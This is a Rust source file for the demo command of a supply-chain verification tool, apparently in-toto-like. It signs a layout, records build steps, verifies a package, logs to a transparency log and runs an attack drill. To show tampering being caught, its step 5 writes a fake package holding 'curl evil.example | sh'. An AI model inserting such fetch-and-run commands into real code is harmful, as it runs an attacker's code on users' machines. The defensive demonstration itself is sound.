//! `intact demo`: a whole supply chain in one command, for a newcomer's
//! first five minutes. It calls the same libraries the other commands use
//! and prints the equivalent command for each step.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::{bail, Context, Result};
use clap::Args;
use intact_crypto::{write_key_pair, SigningKey};
use intact_layout::{sign_layout, BuildOptions, Source};
use intact_model::{Container, Metadata, StepName};
use intact_record::{HashOptions, RunOptions};
use intact_step::{
    run_step, start_step, stop_step, GitCapture, Recorded, RunRequest, StartRequest, StopRequest,
};
use intact_verify::{verify, DirLinkSource, Report, VerifyOptions};

use crate::Outcome;

/// The classic demo layout shipped in layouts/.
const DEMO_LAYOUT: &str = include_str!("../../../../layouts/demo.yaml");

#[derive(Args)]
#[command(after_help = "\
Examples:
  intact demo
  intact demo --dir demo --keep
  intact demo --dir weak --layout examples/weak-layout/layout.yaml

Exit codes:
  0   the honest chain verified, the tampered package was caught and (with
      the built-in layout) the drill caught every attack
  1   the demo did not behave as designed
  2   the directory cannot be used")]
pub struct DemoArgs {
    /// Work in this directory (created; must be empty) instead of a temporary one.
    #[arg(long)]
    dir: Option<PathBuf>,
    /// Keep the temporary directory to look at afterwards.
    #[arg(long)]
    keep: bool,
    /// Build the chain with this YAML layout instead of layouts/demo.yaml
    /// (the same steps; keys `bob` and `carl` are resolved from keys/);
    /// the closing drill then shows what it lets through.
    #[arg(long, value_name = "YAML")]
    layout: Option<PathBuf>,
}

fn say(line: &str) {
    println!("{line}");
}

fn git(dir: &Path, args: &[&str]) -> Result<()> {
    let out = Command::new("git")
        .args([
            "-c",
            "user.name=Bob",
            "-c",
            "user.email=bob@example.com",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .context("running git (needed by the demo's clone step)")?;
    if !out.status.success() {
        bail!(
            "git {}: {}",
            args.join(" "),
            String::from_utf8_lossy(&out.stderr)
        );
    }
    Ok(())
}

fn key(dir: &Path, name: &str) -> Result<SigningKey> {
    let key = SigningKey::generate_ed25519();
    write_key_pair(
        &key,
        &dir.join(format!("{name}.pem")),
        &dir.join(format!("{name}.pub")),
        None,
    )?;
    Ok(key)
}

fn step(name: &str) -> Result<StepName> {
    name.parse().map_err(anyhow::Error::msg)
}

/// The name of the link a step wrote, as the equivalent command prints it.
fn file_name(recorded: &Recorded) -> String {
    recorded
        .path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
}

pub fn run(a: DemoArgs) -> Result<Outcome> {
    let temp;
    let root = match &a.dir {
        Some(d) => {
            std::fs::create_dir_all(d).with_context(|| format!("creating {}", d.display()))?;
            if std::fs::read_dir(d)?.next().is_some() {
                bail!("{}: the demo directory must be empty", d.display());
            }
            d.canonicalize()?
        }
        None => {
            temp = tempfile::Builder::new().prefix("intact-demo-").tempdir()?;
            if a.keep {
                temp.keep()
            } else {
                temp.path().to_path_buf()
            }
        }
    };
    let yaml = match &a.layout {
        Some(p) => {
            std::fs::read_to_string(p).with_context(|| format!("reading {}", p.display()))?
        }
        None => DEMO_LAYOUT.to_string(),
    };
    let outcome = demo(&root, &yaml, a.layout.is_none());
    if a.dir.is_some() || a.keep {
        say(&format!("\nEverything is in {}", root.display()));
    }
    outcome
}

fn demo(root: &Path, layout_yaml: &str, built_in: bool) -> Result<Outcome> {
    let (keys, work, upstream) = (root.join("keys"), root.join("work"), root.join("upstream"));
    for d in [&keys, &work, &upstream] {
        std::fs::create_dir_all(d)?;
    }
    say("== 1. Keys: Alice owns the project, Bob and Carl are functionaries");
    let alice = key(&keys, "alice")?;
    let bob = key(&keys, "bob")?;
    let carl = key(&keys, "carl")?;
    say("$ intact key generate keys/alice   (and keys/bob, keys/carl)");

    say("\n== 2. Alice builds and signs the layout (layouts/demo.yaml)");
    let project = upstream.join("demo-project");
    std::fs::create_dir_all(&project)?;
    std::fs::write(project.join("foo.py"), "VERSION = \"foo-v0\"\n")?;
    git(&project, &["init", "-q"])?;
    git(&project, &["add", "foo.py"])?;
    git(&project, &["commit", "-q", "-m", "foo v0"])?;
    let yaml = root.join("demo.yaml");
    std::fs::write(&yaml, layout_yaml)?;
    let repo = project.display().to_string();
    let source = Source::load(&yaml)?;
    let compiled = source.compile(&BuildOptions {
        parameters: BTreeMap::from([("REPO".to_string(), repo.clone())]),
        ..BuildOptions::default()
    })?;
    if compiled.has_errors() {
        bail!("the demo layout has errors: {:?}", compiled.findings);
    }
    let layout = sign_layout(
        &compiled.layout,
        std::slice::from_ref(&alice),
        Container::Metablock,
    )?;
    layout.save(&root.join("root.layout"))?;
    say("$ intact layout build demo.yaml --key keys/alice.pem --param REPO=<repo> -o root.layout");

    say("\n== 3. The functionaries record their steps (in work/)");
    let hash = HashOptions {
        base_path: Some(work.clone()),
        ..HashOptions::default()
    };
    let quiet = RunOptions {
        passthrough: false,
        cwd: Some(work.clone()),
        ..RunOptions::default()
    };
    // The same library calls as `intact run` and `intact record`; the
    // clone is a git work tree, so its link names the commit
    // (docs/git-provenance.md).
    let clone_cmd = vec!["git".to_string(), "clone".into(), repo.clone()];
    let clone = run_step(
        &RunRequest::new(step("clone")?, &bob)
            .products(["demo-project"])
            .command(Some(clone_cmd))
            .hash_options(hash.clone())
            .run_options(quiet.clone())
            .git(Some(GitCapture::new()))
            .link_dir(&work),
    )?;
    let f = file_name(&clone);
    say(&format!("$ intact run --step clone --key keys/bob.pem --products demo-project -- git clone <repo>   -> {f}"));

    start_step(
        &StartRequest::new(step("update-version")?, &bob)
            .materials(["demo-project"])
            .hash_options(hash.clone())
            .unfinished_dir(&work),
    )?;
    std::fs::write(work.join("demo-project/foo.py"), "VERSION = \"foo-v1\"\n")?;
    let update = stop_step(
        &StopRequest::new(step("update-version")?, &bob)
            .products(["demo-project"])
            .hash_options(hash.clone())
            .unfinished_dir(&work)
            .link_dir(&work),
    )?;
    let f = file_name(&update);
    say("$ intact record start --step update-version --key keys/bob.pem --no-git --materials demo-project");
    say("  (Bob edits demo-project/foo.py: foo-v0 -> foo-v1)");
    say(&format!("$ intact record stop --step update-version --key keys/bob.pem --no-git --products demo-project   -> {f}"));

    let tar_cmd: Vec<String> = "tar --exclude .git -zcvf demo-project.tar.gz demo-project"
        .split(' ')
        .map(str::to_string)
        .collect();
    let package = run_step(
        &RunRequest::new(step("package")?, &carl)
            .materials(["demo-project"])
            .products(["demo-project.tar.gz"])
            .command(Some(tar_cmd.clone()))
            .hash_options(hash)
            .run_options(quiet)
            .link_dir(&work),
    )?;
    if package.run.as_ref().is_some_and(|r| r.return_value != 0) {
        bail!("tar failed in {}", work.display());
    }
    let f = file_name(&package);
    say(&format!("$ intact run --step package --key keys/carl.pem --no-git --materials demo-project --products demo-project.tar.gz -- {}   -> {f}", tar_cmd.join(" ")));

    say("\n== 4. A consumer verifies the package (in final/)");
    let good = consumer_dir(root, "final", &work.join("demo-project.tar.gz"))?;
    say("$ intact verify --layout root.layout --layout-key alice.pub --link-dir ../work --artifact demo-project.tar.gz");
    let report = verify_in(&good, &work, &alice)?;
    println!("{report}");

    say("\n== 5. Someone swaps the package for a tampered one (in tampered/)");
    let evil = root.join("evil");
    std::fs::create_dir_all(evil.join("demo-project"))?;
    std::fs::write(
        evil.join("demo-project/foo.py"),
        "VERSION = \"foo-v1\"; import os; os.system('curl evil.example | sh')\n",
    )?;
    let tar = Command::new("tar")
        .args(["-zcf", "demo-project.tar.gz", "demo-project"])
        .current_dir(&evil)
        .status()?;
    if !tar.success() {
        bail!("tar failed in {}", evil.display());
    }
    let bad = consumer_dir(root, "tampered", &evil.join("demo-project.tar.gz"))?;
    say("$ intact verify --layout root.layout --layout-key alice.pub --link-dir ../work --artifact demo-project.tar.gz");
    let tampered = verify_in(&bad, &work, &alice)?;
    println!("{tampered}");

    say("\n== 6. Every event goes into a transparency log (in log/)");
    let logged = transparency_log(
        root,
        &[&clone.path, &update.path, &package.path],
        &[("final", &report), ("tampered", &tampered)],
        &work.join("demo-project.tar.gz"),
        &work,
        &alice,
    )?;

    say("\n== 7. A drill: attacks on a copy of this chain (in a scratch directory)");
    let drilled = drill(root, &work.join("demo-project.tar.gz"), &work)?;
    say("$ intact drill --layout root.layout --layout-key keys/alice.pub --link-dir work --workdir drill");
    print!("{}", drilled.to_text());
    let drill_ok = drilled.passed() || !built_in;

    say("");
    if report.verified && !tampered.verified && logged && drill_ok {
        say("The honest chain verified and the tampered package was caught.");
        Ok(Outcome::Ok)
    } else {
        say("Unexpected: the demo did not behave as designed.");
        Ok(Outcome::Failed)
    }
}

/// Log the layout, the links and both verifications (each `FILE.proof`
/// beside its file), verify the honest chain again demanding those proofs,
/// and verify the log. Whether all of that held.
fn transparency_log(
    root: &Path,
    links: &[&Path],
    reports: &[(&str, &Report)],
    package: &Path,
    link_dir: &Path,
    owner: &SigningKey,
) -> Result<bool> {
    let keys = root.join("keys");
    key(&keys, "log")?;
    let log = root.join("log");
    intact_log::LogWriter::init(&log, &keys.join("log.pem"), "demo.intact.example/log")?;
    say("$ intact key generate keys/log");
    say("$ intact log init log --key keys/log.pem --origin demo.intact.example/log");
    let ctx = intact_log::EntryContext::now();
    let layout = root.join("root.layout");
    let mut files: Vec<PathBuf> = vec![layout.clone()];
    files.extend(links.iter().map(|p| p.to_path_buf()));
    for (name, r) in reports {
        let path = root.join(format!("verification-{name}.json"));
        std::fs::write(&path, serde_json::to_vec_pretty(r)?)?;
        files.push(path);
    }
    for f in &files {
        let l = intact_log::log_file(&log, f, &ctx)?;
        say(&format!(
            "  entry {}: {} {}  (proof: {})",
            l.index,
            l.entry.kind.as_str(),
            l.entry.file,
            l.proof_path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default()
        ));
    }
    say("$ intact log add log root.layout work/*.link verification-final.json verification-tampered.json");
    say("  (or --log log on intact layout build, run, record stop and sign: each writes FILE.proof)");

    let log_key = intact_log::LogKey::load(&keys.join("log.pub"))?;
    // A fresh consumer directory: the inspection unpacks the package.
    let consumer = consumer_dir(root, "final-logged", package)?;
    let mut again = verify_in(&consumer, link_dir, owner)?;
    intact_verify::require_logged(&mut again, &layout, link_dir, &log_key);
    say("$ intact verify --layout root.layout --layout-key alice.pub --link-dir ../work --artifact demo-project.tar.gz --require-logged --log-key ../keys/log.pub   (in final-logged/)");
    say(&format!(
        "  {}",
        again
            .stages
            .last()
            .map(|s| s.message.clone())
            .unwrap_or_default()
    ));

    let v = intact_log::verify(&intact_log::DirSource::new(&log), &log_key, None)?;
    say("$ intact log verify log --log-key keys/log.pub");
    say(&format!(
        "log verified: origin {}, {} entries, root {}",
        v.origin, v.size, v.root
    ));
    Ok(again.verified)
}

/// Drill the demo chain: the verifier's directory is a fresh consumer
/// directory (the drill copies it for every attack and never writes it).
fn drill(root: &Path, package: &Path, link_dir: &Path) -> Result<intact_drill::DrillReport> {
    let consumer = consumer_dir(root, "drill", package)?;
    let chain = intact_drill::Chain::load(
        &consumer.join("root.layout"),
        &[consumer.join("alice.pub")],
        link_dir,
        Some(&consumer),
        None,
    )?;
    Ok(intact_drill::drill(
        &chain,
        &intact_drill::DrillOptions::default(),
    )?)
}

/// A consumer's directory: the layout, the owner's public key, the package.
fn consumer_dir(root: &Path, name: &str, package: &Path) -> Result<PathBuf> {
    let dir = root.join(name);
    std::fs::create_dir_all(&dir)?;
    std::fs::copy(root.join("root.layout"), dir.join("root.layout"))?;
    std::fs::copy(root.join("keys/alice.pub"), dir.join("alice.pub"))?;
    std::fs::copy(package, dir.join("demo-project.tar.gz"))?;
    Ok(dir)
}

fn verify_in(dir: &Path, links: &Path, owner: &SigningKey) -> Result<Report> {
    let layout = Metadata::load(&dir.join("root.layout"))?;
    let keys = BTreeMap::from([(owner.keyid()?, owner.public_key().clone())]);
    // Verified from the artifact the consumer holds: the tampered package
    // is refused before the layout's inspection unpacks it, and the
    // honest one's report ends with its provenance.
    let package = intact_verify::Subject::from_file(&dir.join("demo-project.tar.gz"))?;
    let opts = VerifyOptions::new()
        .key_names(BTreeMap::from([(owner.keyid()?, "alice.pub".to_string())]))
        .workdir(dir)
        .subjects(vec![intact_verify::Subject {
            name: "demo-project.tar.gz".into(),
            ..package
        }]);
    Ok(verify(&layout, &keys, &DirLinkSource::new(links), &opts)?)
}
